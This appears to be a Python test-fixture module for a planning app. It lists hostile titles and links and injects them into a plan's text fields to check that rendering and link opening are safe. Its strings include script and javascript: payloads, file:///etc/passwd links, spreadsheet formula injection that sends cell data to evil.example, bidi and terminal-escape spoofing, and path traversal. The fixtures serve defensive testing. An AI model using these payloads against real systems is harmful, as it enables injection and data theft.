"""Words as nobody means well with: what a plan file, an import or a title may bring along."""

from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from itertools import cycle
from typing import Any, TypeVar

from planner.domain.plan import Plan

PICTURE = "file:///etc/hostname"

HOSTILE = {
    "picture": f'<img src="{PICTURE}"> a picture of this computer',
    "picture from the web": '<img src="https://tracker.example/1.png"> a picture from the web',
    "bold": "<b>bold</b> and <script>alert(1)</script>",
    "link": '<a href="file:///etc/passwd">Your results</a>',
    "Markdown": "![x](file:///etc/hostname) [y](javascript:alert(1)) # <u>z</u>",
    "entities": "&lt;img src=x&gt; &amp; &#60;b&#62;",
    "override": "invoice\u202efdp.exe",
    "embedding": "\u202bright\u202d left",
    "end of an isolate": "one\u2069\u202etwo",
    "Hebrew": "שלום 12 עולם",
    "lines": "first line\nsecond line\r\nthird\u2028fourth",
    "controls": "bell\x07 escape \x1b[31mred\x1b[0m \x9b2J backspace\x08 delete\x7f",
    "terminal title": "\x1b]0;owned\x07title",
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"Results")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "calendar": "End\r\nATTENDEE:mailto:a@evil.example\r\nEND:VEVENT;,\\n",
    "quotes": "\"double\" 'single' `back` %1 %2 {path} {0} $HOME",
    "path": "../../../etc/passwd",
    "device": "CON",
    "mnemonics": "R&D && P&L",
    "modified": "[*] [*][*]",
    "zero widths": "\u200b\u200c\u200d\ufeffnothing\u00ad",
    "marks": "Z\u0351\u0363\u0368" * 20,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 10,
    "longest": "W" * 500,
    "long words": "no spaces/" * 50,
}
"""Each is a valid title, of at most 500 characters."""

TOO_LONG = "A" * 100_000
"""Longer than a title may be."""

LINKS = (
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "vbscript:x",
    "smb://evil.example/share",
    "\\\\evil.example\\share",
    "mailto:a@evil.example?attach=/etc/passwd",
    "https://bank.example@evil.example/",
    "https://user:secret@evil.example/",
    "https://",
    "https:///etc/passwd",
    "http:evil",
    "https://good.example\\@evil.example/",
    " \tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "ms-msdt:/id",
    "C:\\Windows\\system32\\calc.exe",
    "",
)
"""None of them may ever be opened."""

_SPOILED = ("title", "about", "warning", "note", "provider", "reason", "name", "source", "text")

T = TypeVar("T")


def spoiled(plan: Plan, words: Iterator[str] | None = None) -> Plan:
    """The plan with hostile words wherever a person's or a file's own words stand."""
    return _spoiled(plan, words or cycle(HOSTILE.values()))


def _spoiled(value: T, words: Iterator[str]) -> T:
    if isinstance(value, Mapping):
        return type(value)({key: _spoiled(each, words) for key, each in value.items()})  # type: ignore[call-arg]
    if isinstance(value, tuple):
        return tuple(_spoiled(each, words) for each in value)  # type: ignore[return-value]
    if not is_dataclass(value) or isinstance(value, type):
        return value
    changes: dict[str, Any] = {}
    for field in fields(value):
        if not field.init:
            continue
        before = getattr(value, field.name)
        if isinstance(before, str):
            if field.name in _SPOILED and _takes_words(value):
                changes[field.name] = next(words)
        elif (after := _spoiled(before, words)) != before:
            changes[field.name] = after
    return replace(value, **changes)


def _takes_words(value: object) -> bool:
    """Evidence that is a link, and the names of files, are checked by the plan itself."""
    return getattr(value, "kind", None) != "link" and not hasattr(value, "media_type")
